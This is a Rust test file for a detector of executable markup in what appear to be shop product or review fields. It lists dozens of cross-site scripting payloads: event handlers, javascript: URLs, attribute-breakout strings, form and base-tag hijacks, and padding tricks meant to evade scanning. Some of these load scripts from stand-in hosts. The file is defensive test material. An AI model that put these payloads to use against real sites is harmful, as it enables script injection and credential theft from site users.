//! What is markup that runs, and what is none.

fn detect(value: &[u8]) -> Option<std::ops::Range<usize>> {
    super::detect(value, false)
}

/// Quotes and a leading `=` are parts of a name (HTML 13.2.5.32 and 33): a `>` behind them in quotes ends no tag.
#[test]
fn no_quote_in_a_name_hides_an_attribute() {
    for text in [
        "<a \"\"='>' href=javascript:import('//e.x/a')>Our size guide</a>",
        "<dialog open \"\"='>' oncancel=PWN='N'>",
        "<a =\"='>' href=javascript:x>y</a>",
        "<a '='>' onclick=x()>y</a>",
        "<b x\"'='>' onclick=x()>y</b>",
        "<b \"\" onclick=x() \">\">y</b>",
    ] {
        assert!(detect(text.as_bytes()).is_some(), "{text}");
    }
    for text in ["<a href=\"https://a.example/\" title='a > b'>x</a>", "<b \"quoted\">x</b>", "a < b = c > d"]
    {
        assert_eq!(detect(text.as_bytes()), None, "{text}");
    }
}

#[test]
fn sees_script() {
    let cases = [
        "<script>alert(1)</script>",
        "<ScRiPt src=//x>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=' java\tscript:alert(1)'>",
        "\" onfocus=alert(1) autofocus=\"",
        "javascript:alert(1)",
        "<iframe src=x>",
        "data:text/html,<script>x</script>",
        "<div style=\"width:expression(alert(1))\">",
        "<x/onclick=alert`1`>",
        "<math><mi xlink:href=\"javascript:alert(1)\">",
        "<base href=//evil>",
        "<style>@import 'x'</style>",
        "<style x>@import '//e.example/a.css';",
        "<img referrerpolicy=unsafe-url src=//e.example/x.png>",
        "Nice. <form method=get>",
        "Nice. <form><p>Sign in again",
        "</div><form",
        "<input name=p type = 'Password'>",
        "<input type=image src=x>",
        "<button form=f1>more</button>",
        "<textarea form=basket name=qty>99</textarea>",
        "<select form=basket name=qty><option>99</select>",
        "<fieldset form=basket><p>x</fieldset>",
        "Lovely.<html hidden>",
        "Lovely.<body inert>",
        "<BODY/class=x>",
        "<head dir=rtl>",
        "<style x=`>*{color:red}",
        "<style x",
        "nice <style ",
        "<STYLE/x>",
        "<details open ontoggle=confirm(1)>",
        "<body/onpageshow=x()>",
        "<meta http-equiv=refresh content=0>",
        // What an earlier text left open, this one goes on with.
        "' href=javascript:import('http://127.0.0.1:18555/x.js') style=position:fixed;inset:0>Our size guide</a>",
        "Lovely. <a x='",
        "Lovely. <meta x='",
        "Lovely. <base x=\"",
        "' http-equiv=refresh content=0;url=//localhost:18443/cart>",
        "' href=//evil.example/>",
        "\" formaction=javascript:x() type=submit",
        "x' srcdoc='x'",
        "x href=javascript:x()",
        "x\" style=\"width:expression(x)",
        "' a=b c d='e' formaction=//evil.example/>",
        // What stands behind it on the page is gone.
        "Nice <!--",
        "Nice <!-- and more",
        "Nice <textarea>",
        "<TITLE>",
        "<xmp>x",
        "Lovely <select >",
        "<template><b>x</b>",
        "<dialog",
        "<base target=x>",
        "<fencedframe src=//e.x>",
        // A value that stands in a tag already, and events that no list has.
        "x onsomethingnew=PWN='N'",
        "x onsomethingnew=a(1)",
        "x onnextyear='a; b(1)'",
        "' onnextyear=a.b x='",
    ];
    for case in cases {
        assert!(detect(case.as_bytes()).is_some(), "{case}");
    }
}

#[test]
fn no_padding_hides_script() {
    let cases = [
        // Each looks for the one end at the end.
        format!("{}</rp>", "<rp></".repeat(5_000)),
        format!("{}</title>", "<title></ ".repeat(3_000)),
        format!("<a {} href=javascript:a>x</a>", "a ".repeat(100)),
        format!("<b {}onclick=a>x", "x=1 ".repeat(5_000)),
        format!("<img{}src=x onerror=a>", " ".repeat(50_000)),
        format!("<x title=\"{}\" onclick=a>y", "a".repeat(50_000)),
        format!("<a href=\"java{}script:a\">x</a>", "\t".repeat(5_000)),
        format!("\" onfocus{}=alert(1) x=\"", " ".repeat(5_000)),
        format!("\" onfocus={},alert(1) x=\"", "a".repeat(5_000)),
        format!("<a{} onclick=a>", "<b ".repeat(20_000)),
        format!("\" onfocus=\"{}PWN++\" autofocus x=\"", "0; ".repeat(180)),
        format!("\" onfocus=\"{}name\"", "0; ".repeat(180)),
        format!("\" onnextyear={}PWN++ ", "0; ".repeat(5_000)),
    ];
    for case in cases {
        assert!(detect(case.as_bytes()).is_some(), "{} ... {} bytes", &case[..8], case.len());
    }
}

#[test]
fn long_markup_of_a_shop_passes() {
    let cases = [
        "<li class=\"spec\" data-x=\"1\">a &lt; b</li>".repeat(2_000),
        format!("<img src=\"data:image/png;base64,{}\" alt=\"front\">", "iVBORw0KGgo".repeat(9_000)),
        format!("<p {}>Mug</p>", (0..200).map(|n| format!("data-a{n}=\"{n}\" ")).collect::<String>()),
    ];
    for case in cases {
        assert_eq!(detect(case.as_bytes()), None, "{} ... {} bytes", &case[..8], case.len());
    }
}

#[test]
fn sees_markup_and_prose() {
    let cases = [
        "size < 10 & > 5",
        "<b>bold</b> and <i>italic</i>",
        "<a href=\"https://shop.example/a?b=c\">link</a>",
        "<img src=\"/media/a.png\" alt=\"one = two\">",
        "JavaScript: The Good Parts",
        "a <- b",
        "a <!b",
        "<-- see here",
        "<!-- a note --> Mug",
        "<!--> Mug",
        "<select><option>S</option></select>",
        "<title>Mug</title>",
        "<selected works>",
        "i <3 you",
        "JavaScript: The Definitive Guide (7th Edition)",
        "price<base price",
        "<p style=\"color:red\">x</p>",
        "sale on = today",
        "<jane@example.com>",
        "x<y and y>z",
        "<ul><li class=\"a\">one</li></ul>",
        "stock: onhand=12.5 onorder=(3) onstore = yes",
        "one=1, once=2, only=3.00, onlyfew=4.00",
        "onlinekurs = 12.50 (inkl. MwSt.)",
        "on-time=yes; onboarding = done (mostly)",
        "he said \"it's on\" and <3 the rest > all",
        "<p title='it\"s'>x</p>",
        "<a href='/a' title=\"5' or 6'\">ladder</a>",
        "if (a<b && \"c\"='d') then",
        "the 5' src = 3, the 6\" data = 4",
        "from='2024-01-01' to='2024-02-01'",
        "the 'from' = here and the 'to' = there",
        "it's to=you from=me",
        "size='L' data=//",
        "a=\"b\" href=/c",
    ];
    for case in cases {
        assert_eq!(detect(case.as_bytes()), None, "{case}");
    }
}
